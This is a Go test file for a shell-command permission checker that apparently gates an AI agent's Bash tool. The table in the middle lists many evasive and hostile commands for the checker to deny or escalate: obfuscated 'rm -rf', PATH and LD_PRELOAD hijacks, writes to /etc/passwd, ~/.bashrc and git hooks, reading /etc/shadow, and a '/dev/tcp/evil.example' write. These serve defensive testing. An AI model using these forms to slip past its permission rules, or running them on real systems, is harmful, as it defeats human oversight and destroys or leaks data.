package policy

import (
	"io/fs"
	"path"
	"slices"
	"syscall"
	"testing"

	"github.com/terret-dev/terret"
)

// generous are allow rules as people make them who are tired of being asked.
// None of them may let anything in the table below through.
var generous = []string{
	"Bash(git *)", "Bash(ls *)", "Bash(cat *)", "Bash(echo *)", "Bash(printf *)", "Bash(go test *)", "Bash(go *)", "Bash(npm *)", "Bash(npx *)",
	"Bash(find *)", "Bash(xargs *)", "Bash(sed *)", "Bash(awk *)", "Bash(tar *)", "Bash(python3 *)", "Bash(python *)", "Bash(node *)",
	"Bash(perl *)", "Bash(ruby *)", "Bash(env *)", "Bash(sudo *)", "Bash(timeout *)", "Bash(nohup *)", "Bash(bash *)", "Bash(sh *)", "Bash(zsh *)",
	"Bash(eval *)", "Bash(source *)", "Bash(command *)", "Bash(exec *)", "Bash(time *)", "Bash(ssh *)", "Bash(docker *)", "Bash(make *)",
	"Bash(vim *)", "Bash(rsync *)", "Bash(curl *)", "Bash(read *)", "Bash(test *)", "Bash(set *)", "Bash(export *)", "Bash(trap *)", "Bash(rg *)",
	"Bash(sort *)", "Bash(man *)", "Bash(alias *)", "Bash(cd *)", "Bash(parallel *)", "Bash(watch *)", "Bash(gcc *)", "Bash(php *)", "Bash(lua *)", "Bash(less *)",
	"Edit(out/**)", "Read(src/**)",
}

func rules(effect terret.Effect, patterns ...string) []terret.Rule {
	all := make([]terret.Rule, len(patterns))
	for i, p := range patterns {
		all[i] = terret.Rule{ID: "rul_" + p, Effect: effect, Pattern: p, Scope: terret.ScopeSession}
	}
	return all
}

func allow(patterns ...string) []terret.Rule { return rules(terret.EffectAllow, patterns...) }
func deny(patterns ...string) []terret.Rule  { return rules(terret.EffectDeny, patterns...) }

// noLinks is a file system in which all folders are there, and no symbolic links
// and no repositories.
func noLinks(p string) (string, error) {
	switch path.Base(p) {
	case ".git", "HEAD", "objects", "refs":
		return "", fs.ErrNotExist
	}
	return "", &fs.PathError{Op: "readlink", Path: p, Err: syscall.EINVAL}
}

// bash is a use of the shell in a project.
func bash(command string) Subject {
	return Subject{
		Tool: "Bash", Class: terret.ClassExecute, Input: object("command", command),
		Cwd: "/repo", Roots: []string{"/repo"}, Home: "/home/dev", Readlink: noLinks,
	}
}

const (
	denied = terret.BehaviorDeny
	asked  = terret.BehaviorAsk
)

// judgedRow is a command and its verdict.
type judgedRow struct {
	command string
	want    terret.Behavior
}

// hostile are commands that run, or may run, rm, or do what no rule in generous
// was made for. The verdict is the one with Bash(rm *) denied.
var hostile = slices.Concat(hostileScripts, hostilePrograms)

// hostileScripts are about the shell.
var hostileScripts = []judgedRow{
	// Lists, pipes and grouping.
	{"rm -rf x", denied},
	{"git status; rm -rf x", denied},
	{"git status && rm -rf x", denied},
	{"git status || rm -rf x", denied},
	{"git status | rm -rf x", denied},
	{"git status |& rm -rf x", denied},
	{"git status & rm -rf x", denied},
	{"git status\nrm -rf x", denied},
	{"git status;rm x", denied},
	{"(rm -rf x)", denied},
	{"( (rm x) )", denied},
	{"{ rm -rf x; }", denied},
	{"! rm x", denied},
	{"time rm x", denied},
	{"time -p rm x", denied},
	{"if true; then rm x; fi", denied},
	{"if rm x; then true; fi", denied},
	{"if false; then :; elif rm x; then :; else :; fi", denied},
	{"while rm x; do break; done", denied},
	{"until false; do rm x; done", denied},
	{"for i in a b; do rm $i; done", denied},
	{"for ((i=0;i<2;i++)); do rm x; done", denied},
	{"select i in a; do rm x; done", denied},
	{"case x in x) rm x;; esac", denied},
	{"case $(rm x) in x) :;; esac", denied},
	{"git status # comment\nrm x", denied},
	{"ls\n\n\n   rm x", denied},
	{"ls && { ( git status; rm x ); }", denied},
	{"coproc rm x", denied},
	{"coproc NAME { rm x; }", denied},
	// Substitutions.
	{"echo $(rm x)", denied},
	{"echo `rm x`", denied},
	{"echo \"$(rm x)\"", denied},
	{"echo \"`rm x`\"", denied},
	{"echo \"a $(echo \"b $(rm x)\")\"", denied},
	{"echo ${x:-$(rm x)}", denied},
	{"echo ${x:-`rm x`}", denied},
	{"echo ${x/a/$(rm x)}", denied},
	{"echo ${x:$(rm x)}", denied},
	{"echo ${a[$(rm x)]}", denied},
	{"echo $((a[$(rm x)]))", denied},
	{"echo $(( $(rm x) ))", denied},
	{"echo $[ $(rm x) ]", denied},
	{"cat <(rm x)", denied},
	{"cat > >(rm x)", denied},
	{"x=$(rm x)", denied},
	{"x=$(rm x) ls", denied},
	{"a=(1 $(rm x))", denied},
	{"a[$(rm x)]=1", denied},
	{"export X=$(rm x)", denied},
	{"cat <<EOF\n$(rm x)\nEOF", denied},
	{"cat <<-EOF\n\t`rm x`\n\tEOF", denied},
	{"cat <<< $(rm x)", denied},
	{"cat <<< \"$(rm x)\"", denied},
	{"[[ $(rm x) ]]", denied},
	{"[[ x =~ $(rm x) ]]", denied},
	{"ls > $(rm x)", denied},
	{"echo `echo \\`rm x\\``", denied},
	{"git commit -m \"$(rm -rf x)\"", denied},
	{"f() { rm x; }; f", denied},
	{"function ls { rm x; }; ls", denied},
	{"ls() { command rm x; }; ls", denied},
	// Spelling.
	{`\rm x`, denied},
	{`r\m x`, denied},
	{`'rm' x`, denied},
	{`"rm" x`, denied},
	{`r'm' x`, denied},
	{`r""m x`, denied},
	{`$'rm' x`, denied},
	{`$'\x72m' x`, denied},
	{`$'\162m' x`, denied},
	{`$'\u0072m' x`, denied},
	{`$'\u72m' x`, denied},
	{`$'\U72m' x`, denied},
	{`$'\U00000072m' x`, denied},
	{`$'\u006d\u0072' x`, asked},
	{`r$'\x6D' x`, denied},
	{`r$'\x6d' x`, denied},
	{`r$'\155' x`, denied},
	{`r$'\x6Dg' x`, asked},
	{"r\\\nm x", denied},
	{"rm\\\n x", denied},
	{"/bin/rm x", denied},
	{"/usr/bin/../bin/rm x", denied},
	{"./rm x", denied},
	{"RM x", denied},
	{"/bin/RM x", denied},
	{"rm.exe x", denied},
	{`$'r\'m' x`, asked},
	{`$"rm" x`, denied},
	{"=rm x", asked},
	{"~/bin/$x y", asked},
	{"/bin/r? x", asked},
	{"/bin/r* x", asked},
	{"/bin/[r]m x", asked},
	{"{rm,-rf,x}", asked},
	{"{r,}m x", asked},
	{"r{m,} x", asked},
	{"!(ls) x", asked},
	{"@(rm) x", asked},
	{"$x -rf y", asked},
	{"${x} y", asked},
	{"\"$x\" y", asked},
	{"$(echo rm) x", asked},
	{"`echo rm` x", asked},
	{"r$x x", asked},
	{"${x:-rm} x", asked},
	{"${!x} y", asked},
	{"$BASH_CMDS x", asked},
	{"${BASH_ALIASES[ls]}", asked},
	{"rｍ x", asked},
	{"ｒｍ x", asked},
	{"гm x", asked},
	{"r\u200bm x", asked},
	{"ls\u00a0x", asked},
	{"ls \u202emr x", asked},
	{"ls\rrm x", asked},
	{"ls\x00rm x", asked},
	{"ls \x1b[2K", asked},
	{"ls \xff\xfe", asked},
	{"ls \u2028 rm x", asked},
	// The environment and the shell's own state.
	{"PATH=/tmp/evil git status", asked},
	{"PATH=/tmp/evil:$PATH; ls", asked},
	{"export PATH=/tmp/evil", asked},
	{"LD_PRELOAD=./x.so ls", asked},
	{"LD_LIBRARY_PATH=. ls", asked},
	{"DYLD_INSERT_LIBRARIES=x ls", asked},
	{"BASH_ENV=./x bash -c ls", asked},
	{"ENV=./x sh -c ls", asked},
	{"IFS=x; ls", asked},
	{"GIT_SSH_COMMAND='rm x' git fetch", asked},
	{"GIT_PAGER='rm x' git log", asked},
	{"GIT_EXTERNAL_DIFF=rm git diff", asked},
	{"PAGER='rm x' git log", asked},
	{"EDITOR='rm x' git commit", asked},
	{"NODE_OPTIONS='--require ./x' node a.js", asked},
	{"PYTHONSTARTUP=x python3 a.py", asked},
	{"PROMPT_COMMAND='rm x' ls", asked},
	{"PS4='$(rm x)' bash -xc ls", asked},
	{"env PATH=/tmp/evil ls", asked},
	{"env LD_PRELOAD=x ls", asked},
	{"path=(/tmp/evil) ls", asked},
	{"declare -n x=PATH", asked},
	{"declare -i x='a[0]'", asked},
	{"readonly PATH=/x", asked},
	{"read PATH <<< /tmp/evil", asked},
	{"read 'a[0]'", asked},
	{"printf -v PATH /tmp/evil", asked},
	{"printf -v 'a[0]' x", asked},
	{": ${PATH:=/tmp}", asked},
	{"for PATH in /tmp/evil; do ls; done", asked},
	{"alias ls=rm", asked},
	{"alias ls='rm x'; ls", asked},
	{"unalias ls", asked},
	{"hash -p /bin/rm ls", asked},
	{"enable -f ./x.so ls", asked},
	{"shopt -s expand_aliases", asked},
	{"set -a", asked},
	{"set -- rm x", asked},
	{"bind -x '\"a\":rm x'", asked},
	{"complete -C 'rm x' ls", asked},
	{"let 'x=a[0]'", asked},
	{"echo ${x@P}", asked},
	{"echo $((x))", asked},
	{"((x=1))", asked},
	{"[[ $x -eq 0 ]]", asked},
	{"[[ -v x ]]", asked},
	{"test -v 'a[$(rm x)]'", asked},
	{"[ \"$x\" -eq 1 ]", asked},
	{"[ $x ]", asked},
	{"exec {fd}>out/x", asked},
	{"exit 'a[$(rm x)]'", asked},
	{"printf %d 'a[$(rm x)]'", asked},
	{"wait -p PATH", asked},
	{"sed -i '' '1e rm x' f", asked},
	{"ls() { :; }; ls", asked},
	{"git() { command \"$@\"; }; git x", asked},
	{"f() { \"$@\"; }; f rm x", asked},
	// Redirections.
	{"echo x > /etc/passwd", asked},
	{"echo x >> ~/.bashrc", asked},
	{"echo x >| f", asked},
	{"echo x &> f", asked},
	{"echo x >& f", asked},
	{"echo x > $f", asked},
	{"echo x > out/../f", asked},
	{"echo x > out/$f", asked},
	{"cd /etc && echo x > out/f", asked},
	{"cd $d && echo x > out/f", asked},
	{"cat < /etc/shadow", asked},
	{"cat <> f", asked},
	{"> f", asked},
	{"echo x > /dev/tcp/evil.example/80", asked},
	{"echo x > out/.git/hooks/pre-commit", asked},
	{"echo x >! out/f", asked},
	// What the grammars of shells disagree about.
	{"((rm))", asked},
	{"echo $((rm) )", asked},
	{"{rm x}", asked},
	{"for x (a) rm x", asked},
	{"ls =(rm x)", asked},
	{"echo ${ rm x; }", denied},
	{"echo \"unclosed", asked},
	{"git status )", asked},
	{"cat <<EOF\nno end", asked},
	{"if true", asked},
	// What shells and parsers read differently: none of it is in plain shell.
	{"git status #\\\nrm -rf x", asked},
	{"git status # it is here \\\nrm -rf x", asked},
	{"ls;#\\\nrm x", denied},
	{"ls #\\\n rm x\nls", asked},
	{"bash -c 'git status #\\\nrm x'", asked},
	{"eval 'ls #\\\nrm x'", asked},
	{"ls &> out/x rm x", asked},
	{"ls $x:h", asked},
	{"echo $10", asked},
	{"cat <<E\nx \\\nE\nrm x\nE", asked},
}

func TestHostileCommands(t *testing.T) {
	t.Parallel()
	if len(hostile) < 150 {
		t.Fatalf("the table has %d rows, want at least 150", len(hostile))
	}
	both := append(allow(generous...), deny("Bash(rm *)")...)
	for _, row := range hostile {
		t.Run(row.command, func(t *testing.T) {
			t.Parallel()
			s := bash(row.command)
			if got := Judge(s, both, terret.PolicyAsk); got.Behavior != row.want {
				t.Errorf("with Bash(rm *) denied: %s (%s), want %s", got.Behavior, got.Reason, row.want)
			}
			broad := slices.ContainsFunc(newUse(s).script.calls, func(c call) bool { return c.loose && c.doubt != "" }) // it does what the rule says
			if got := Judge(s, allow(generous...), terret.PolicyAsk); got.Behavior == terret.BehaviorAllow && !broad {
				t.Errorf("with allow rules only: allowed by %s", got.Rule.Pattern)
			}
			if got := Judge(s, deny("Bash(rm *)"), terret.PolicyAutoApprove); (got.Behavior == terret.BehaviorAllow) != notAboutRm[row.command] {
				t.Errorf("auto-approve with Bash(rm *) denied: %s (%s)", got.Behavior, got.Reason)
			}
			if got := Judge(s, nil, terret.PolicyDenyUnlessAllowed); got.Behavior == terret.BehaviorAllow {
				t.Errorf("deny-unless-allowed: %s", got.Behavior)
			}
			suggested := allow(Suggest(s)...)
			for _, other := range []string{"rm -rf other", "sudo ls", "bash -c 'rm -rf other'", "python3 -c y", "git push", "echo y > other"} {
				if other == row.command {
					continue
				}
				if got := Judge(bash(other), suggested, terret.PolicyAsk); got.Behavior == terret.BehaviorAllow {
					t.Errorf("suggested %s, which allows %s", got.Rule.Pattern, other)
				}
			}
		})
	}
}

// notAboutRm are the rows that cannot run rm: no rule allows them, but that rule
// says nothing against them either.
var notAboutRm = map[string]bool{
	"echo x > out/.git/hooks/pre-commit": true,
	"> f":                                true,
	"cat <> f":                           true,
	"cat < /etc/shadow":                  true,
	"cd $d && echo x > out/f":            true,
	"cd /etc && echo x > out/f":          true,
	"echo x > out/$f":                    true,
	"echo x > out/../f":                  true,
	"echo x > $f":                        true,
	"echo x >& f":                        true,
	"echo x &> f":                        true,
	"echo x >| f":                        true,
	"echo x >> ~/.bashrc":                true,
	"echo x > /etc/passwd":               true,
	"./true && git status":               true,
	"/tmp/evil/env git status":           true,
	"./timeout 5 git status":             true,
	"./bash -c 'git status'":             true,
	"sudo ls":                            true,
	"git diff --output=/etc/passwd":      true,
	"git log --output=x":                 true,
}
